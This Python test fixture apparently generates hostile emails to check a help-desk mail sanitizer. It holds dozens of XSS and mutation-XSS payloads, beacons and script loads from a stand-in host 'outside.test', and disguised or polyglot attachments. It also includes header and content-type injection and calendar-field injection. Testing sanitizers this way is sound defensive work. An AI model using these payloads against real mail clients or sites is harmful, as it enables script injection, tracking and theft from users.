"""Mails from somebody who wants a script to run, a picture to be fetched, or a page to go elsewhere."""

import base64

OUTSIDE = "https://outside.test"
RUN = f"top.ran=parent.ran=window.ran=1;new Image().src='{OUTSIDE}/ran'"
_ENCODED = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

# What runs or asks where nothing stands against it.
BODIES = [
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="{OUTSIDE}/a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror='{RUN}'/>",
    f'<img """><script>{RUN}</script>">',
    f"<img src='x\" onerror='{RUN}'>",
    f'<IMG SRC=`x` ONERROR="{RUN}">',
    f'<img src="{OUTSIDE}/pixel.gif" srcset="{OUTSIDE}/pixel2.gif 2x" style="background:url({OUTSIDE}/b.gif)">',
    f'<svg onload="{RUN}"></svg>',
    f"<svg/onload={RUN.replace(' ', '/**/')}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<math><maction actiontype="statusline#{OUTSIDE}" xlink:href="javascript:{RUN}">x</maction></math>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    f'<title><p title="</title><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<style><p title="</style><img src=x onerror={RUN}>">',
    f'<!--><img src=x onerror="{RUN}">-->',
    f'<!-- --!><img src=x onerror="{RUN}"> -->',
    f'<![CDATA[><img src=x onerror="{RUN}">]]>',
    f'<?xml ><img src=x onerror="{RUN}">?>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="{OUTSIDE}/frame"></iframe>',
    f'<object data="data:text/html;base64,{_ENCODED}"></object>',
    f'<embed src="data:image/svg+xml;base64,{_ENCODED}">',
    f'<video autoplay onloadstart="{RUN}" src="{OUTSIDE}/v.mp4"></video>',
    f'<audio src="{OUTSIDE}/a.mp3" onerror="{RUN}" autoplay></audio>',
    f'<video><source onerror="{RUN}"></video>',
    f'<body onload="{RUN}" background="{OUTSIDE}/bg.gif">',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<div style="animation:x 1s" onanimationstart="{RUN}">x</div><style>@keyframes x{{}}</style>',
    f'<div style="background-image:url({OUTSIDE}/css.gif)">x</div>',
    f'<div style="background:\\75 rl({OUTSIDE}/css2.gif)">x</div>',
    f'<div style="width:expression({RUN})">x</div>',
    f"<style>@import '{OUTSIDE}/a.css'; body{{background:url({OUTSIDE}/b.gif)}}</style>",
    f'<link rel=stylesheet href="{OUTSIDE}/a.css"><link rel=prefetch href="{OUTSIDE}/p">',
    f'<link rel=preconnect href="{OUTSIDE}"><link rel=dns-prefetch href={OUTSIDE}>',
    f'<meta http-equiv=refresh content="0;url={OUTSIDE}/refresh">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<base href="{OUTSIDE}/"><img src="relative.gif"><a href="x">x</a>',
    f'<form id=f action="{OUTSIDE}/form"><input name=q autofocus></form><button form=f>x</button>',
    f'<table background="{OUTSIDE}/t.gif"><td background="{OUTSIDE}/c.gif">x</table>',
    f'<a href="javascript:{RUN}" id=hash>x</a><a href="  java&#10;script:{RUN}">y</a>',
    f'<a href="&#1;javascript:{RUN}">z</a>',
    f'<a href="data:text/html;base64,{_ENCODED}">x</a><a href="vbscript:x">y</a>',
    f'<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    f'<isindex type=image src=1 onerror="{RUN}"><keygen autofocus onfocus="{RUN}">',
    f'<div id="main" data-controller="live" data-live-url-value="{OUTSIDE}">x</div>',
    f'<div hx-get="{OUTSIDE}" hx-trigger="load" data-hx-on:load="{RUN}">x</div>',
    f'<img name=body><form name=getElementById></form><img src="cid:x" onerror="{RUN}">',
    f'<select><template><style><img src=x onerror="{RUN}"></style></template></select>',
    f'<blockquote type="cite" class="gmail_quote"><div id="appendonsend"><img src=x onerror="{RUN}"></blockquote>',
    f'<p title="x" class="gmail_quote&quot; onmouseover=&quot;{RUN}">x</p>',
    f'<img alt="cid:&quot; onerror=&quot;{RUN}" src="cid:y">',
]

SCRIPT = f"<script>{RUN}</script>"
PICTURE = f'"><img src=x onerror="{RUN}">'
NAMES = [
    SCRIPT,
    PICTURE,
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "javascript:alert(1)",
    "';alert(1)//",
    "</title><script>",
]
SVG = f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PAGE = f"<!doctype html><title>x</title><script>{RUN}</script>"

# (name, type, content): what is opened by its address.
FILES = [
    ("page.html", "text/html", PAGE),
    (
        "page.xhtml",
        "application/xhtml+xml",
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>',
    ),
    ("picture.svg", "image/svg+xml", SVG),
    ("feed.xml", "text/xml", f'<?xml-stylesheet href="{OUTSIDE}/a.xsl" type="text/xsl"?><a/>'),
    ("invoice.pdf", "application/pdf", PAGE),
    ("photo.png", "image/png", PAGE),
    ("photo.gif", "image/gif", f"GIF89a/*\0*/=1;{RUN}//{PAGE}"),
    ("photo.jpg", "image/jpeg", SVG),
    ("script.js", "text/javascript", RUN),
    ("noname", "", PAGE),
    ("odd.html", "text/html; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("split.html", "image/png\r\nX-Injected: text/html", PAGE),
    (f"{PICTURE}.html", "text/html", PAGE),
    ("nested.mht", "multipart/related", PAGE),
    ("app.hta", "application/hta", PAGE),
]


def _word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _mail(number: int, subject: str, name: str, rest: str, *, follows: int = 0) -> bytes:
    lines = [
        f"From: {_word(name)} <mallory@outside.test>",
        "To: help@desk.test",
        f"Subject: {_word(subject)}",
        f"Message-ID: <{number}@outside.test>",
        *([f"In-Reply-To: <{follows}@outside.test>"] if follows else []),
        "MIME-Version: 1.0",
    ]
    return ("\n".join(lines) + "\n" + rest).encode()


def letters() -> list[bytes]:
    """One conversation: every body, each a letter."""
    return [
        _mail(
            number,
            "Bodies",
            "Mallory",
            f"Content-Type: text/html; charset=utf-8\n\n<p>Letter {number}</p>{body}",
            follows=number - 1,
        )
        for number, body in enumerate(BODIES, 1)
    ]


def subjects() -> list[bytes]:
    """Conversations of their own: names, subjects and words in plain text."""
    return [
        _mail(1000 + n, f"Name {n} {name}", name, f"Content-Type: text/plain; charset=utf-8\n\n{name}\n> {PICTURE}\n")
        for n, name in enumerate(NAMES)
    ]


def packages() -> list[bytes]:
    """One conversation: files, invitations, a mail in a mail."""
    out = []
    for number, (name, kind, content) in enumerate(FILES, 2000):
        disposition = f'attachment; filename="{_word(name)}"'
        encoded = base64.encodebytes(content.encode()).decode()
        body = (
            'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\nSee the file.\n'
            f"--b\nContent-Type: {kind}\nContent-ID: <{PICTURE}>\nContent-Disposition: {disposition}\n"
            f"Content-Transfer-Encoding: base64\n\n{encoded}--b--\n"
        )
        out.append(_mail(number, "Packages", "Mallory", body, follows=number - 1 if number > 2000 else 0))
    event = "".join(f"{key}:{PICTURE}\n" for key in ("SUMMARY", "LOCATION", "DESCRIPTION"))
    calendar = (
        f"Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:{PICTURE}\nBEGIN:VEVENT\n{event}"
        f'ORGANIZER;CN="{SCRIPT.replace(chr(34), "")}":javascript:{RUN}\n'
        f"DTSTART;TZID=<script>:20261120T100000\nEND:VEVENT\nEND:VCALENDAR\n"
    )
    nested = (
        f"Content-Type: message/rfc822\n\nFrom: a@outside.test\nSubject: {PICTURE}\n"
        f"Content-Type: text/html\n\n{BODIES[4]}"
    )
    last = 2000 + len(FILES) - 1
    return [
        *out,
        _mail(3000, "Packages", "Mallory", calendar, follows=last),
        _mail(3001, "Packages", "Mallory", nested, follows=last),
    ]
